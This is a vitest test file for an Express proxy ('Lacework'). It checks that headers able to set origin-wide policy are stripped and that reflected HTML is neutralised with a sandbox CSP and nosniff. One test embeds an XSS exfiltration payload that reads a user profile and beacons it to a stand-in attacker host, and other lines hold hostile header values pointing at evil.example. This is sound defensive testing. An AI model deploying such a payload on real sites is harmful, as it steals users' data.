import express from 'express';
import { afterAll, describe, expect, it } from 'vitest';
import { ORIGIN_POLICY_HEADERS } from '../../src/proxy/headers.js';
import { laceworkProxy } from '../../src/proxy/proxy.js';
import { rawExchange, sharedRawUpstream } from '../support/raw-http.js';
import { serveApp } from '../support/servers.js';
import { headerValue, type Message, parseResponses } from '../support/strict-http.js';

// A relayed answer arrives from the app's origin. Whatever Lacework's answer says about the
// browser's state for that origin, who may read it, how it may be cached or what it is as a page
// must not become the app's policy: the app's own headers stay, Lacework's are dropped, and the
// answer is marked as data that no shared cache keeps and no browser runs.

const APP_ORIGIN = 'https://app.example';
const upstream = await sharedRawUpstream();
const app = express();
// The app's own CORS policy, set before the proxy as the README asks.
app.use((_req, res, next) => {
  res.setHeader('Access-Control-Allow-Origin', APP_ORIGIN);
  res.setHeader('Vary', 'Origin');
  next();
});
app.use('/lw', laceworkProxy({ tokenProvider: upstream.provider, allow: ['**'] }));
const { port } = await serveApp(app, afterAll);

async function through(headers: string[], body = 'ok'): Promise<Message> {
  upstream.respondWith(
    () =>
      `HTTP/1.1 200 OK\r\n${[...headers, `Content-Length: ${body.length}`].join('\r\n')}\r\n\r\n${body}`,
  );
  const { bytes } = await rawExchange(
    port,
    `GET /lw/Echo/x HTTP/1.1\r\nHost: x\r\nOrigin: https://evil.example\r\nConnection: close\r\n\r\n`,
  );
  const parsed = parseResponses(bytes, ['GET']);
  expect(parsed.error).toBeUndefined();
  expect(parsed.messages).toHaveLength(1);
  return parsed.messages[0] as Message;
}

describe("Lacework's answer never sets the app origin's policy", () => {
  it("keeps the app's CORS headers; Lacework's Access-Control-* are dropped", async () => {
    const message = await through([
      'Access-Control-Allow-Origin: https://evil.example',
      'access-control-allow-credentials: true',
      'Access-Control-Expose-Headers: *',
      'Access-Control-Allow-Methods: DELETE',
    ]);
    expect(headerValue(message, 'access-control-allow-origin')).toBe(APP_ORIGIN);
    expect(headerValue(message, 'access-control-allow-credentials')).toBeUndefined();
    expect(headerValue(message, 'access-control-expose-headers')).toBeUndefined();
    expect(headerValue(message, 'access-control-allow-methods')).toBeUndefined();
  });

  it('drops headers that would persist for, wipe or open up the whole origin', async () => {
    const sent = [
      'Set-Cookie: session=lacework; Path=/',
      'Clear-Site-Data: "cookies", "storage"',
      'Strict-Transport-Security: max-age=63072000; includeSubDomains; preload',
      'Alt-Svc: h2="evil.example:443"; ma=2592000',
      'NEL: {"report_to":"lw","max_age":31536000,"include_subdomains":true}',
      'Report-To: {"group":"lw","max_age":31536000,"endpoints":[{"url":"https://evil.example/r"}]}',
      'Reporting-Endpoints: lw="https://evil.example/r"',
      'Service-Worker-Allowed: /',
      'Cross-Origin-Resource-Policy: cross-origin',
      'Cross-Origin-Opener-Policy: unsafe-none',
      'Timing-Allow-Origin: *',
      'X-Lw-Trace: kept',
    ];
    const message = await through(sent);
    for (const line of sent.slice(0, -1)) {
      const name = line.slice(0, line.indexOf(':'));
      expect(headerValue(message, name), name).toBeUndefined();
      expect(ORIGIN_POLICY_HEADERS).toContain(name.toLowerCase());
    }
    expect(headerValue(message, 'x-lw-trace')).toBe('kept');
  });

  it("Lacework's challenge for the server's key never reaches the browser as a login prompt", async () => {
    upstream.respondWith(
      () =>
        'HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: Basic realm="app"\r\nContent-Length: 0\r\n\r\n',
    );
    const { bytes } = await rawExchange(
      port,
      'GET /lw/Echo/x HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n',
    );
    const [answer] = parseResponses(bytes, ['GET']).messages;
    expect(answer?.status).toBe(401);
    expect(answer && headerValue(answer, 'www-authenticate')).toBeUndefined();
  });

  it('an answer that reflects its input as HTML is served as inert data', async () => {
    const message = await through(
      [
        'Content-Type: text/html',
        "Content-Security-Policy: script-src 'unsafe-inline'",
        'X-Content-Type-Options: none',
      ],
      '<script>fetch("/lw/UserProfile").then(r=>r.text()).then(t=>navigator.sendBeacon("https://evil.example",t))</script>',
    );
    expect(headerValue(message, 'x-content-type-options')).toBe('nosniff');
    const csp = headerValue(message, 'content-security-policy') ?? '';
    expect(csp).toMatch(/(?:^|; )sandbox(?:;|$)/);
    expect(csp).toContain("default-src 'none'");
    expect(csp).not.toContain('unsafe-inline');
  });

  it('no shared cache may store the answer, even when Lacework says public', async () => {
    const message = await through([
      'Cache-Control: public, max-age=3600, s-maxage=86400',
      'CDN-Cache-Control: max-age=86400',
      'Cloudflare-CDN-Cache-Control: max-age=86400',
      'Surrogate-Control: max-age=86400',
    ]);
    expect(headerValue(message, 'cache-control')).toBe('private, max-age=3600');
    for (const name of ['cdn-cache-control', 'cloudflare-cdn-cache-control', 'surrogate-control']) {
      expect(headerValue(message, name), name).toBeUndefined();
    }
  });
});
